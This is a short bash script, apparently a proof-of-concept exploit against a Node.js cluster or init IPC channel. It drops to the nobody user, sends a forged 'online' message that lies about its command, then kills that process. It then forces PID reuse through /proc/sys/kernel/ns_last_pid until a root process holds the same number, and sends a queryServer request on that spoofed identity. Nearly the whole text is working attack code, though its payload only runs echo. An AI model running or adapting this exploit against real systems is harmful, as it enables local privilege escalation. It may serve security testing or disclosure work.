# Joins as a process of another user that lies about its command, and asks for a
# server when that process has ended and root has its number: node lie.js.
fd=${NODEINIT_CHANNEL%%:*}
files=$(stat -L -c '"%d %i"' / /proc/$$/fd/1 /proc/$$/fd/2 | paste -sd,)
lie='{"cmd":"NODE_CLUSTER","act":"online","pid":7,"command":{"path":"/bin/echo","argv":["echo","worked"],"dir":"/","env":{},"files":['$files'],"script":true}}'
setpriv --reuid=65534 --regid=65534 --clear-groups -- bash -c 'printf "%s\n" "$1" >&'"$fd"'; sleep 1000' bash "$lie" &
joined=$!
known() { grep -l "^Pid:[[:space:]]*$joined\$" /proc/1/fdinfo/* | wc -l; }
until [ "$(known)" = 2 ]; do sleep 0.01; done
kill -KILL "$joined"
wait "$joined"
until [ "${root:-0}" = "$joined" ]; do
  [ "$root" ] && kill "$root" && wait "$root"
  echo $((joined - 1)) >/proc/sys/kernel/ns_last_pid
  sleep 1000 &
  root=$!
done
printf '%s\n' '{"cmd":"NODE_CLUSTER","act":"queryServer","seq":1,"index":0,"port":0,"addressType":4,"fd":null,"flags":0}' >&"$fd"
wait "$root"
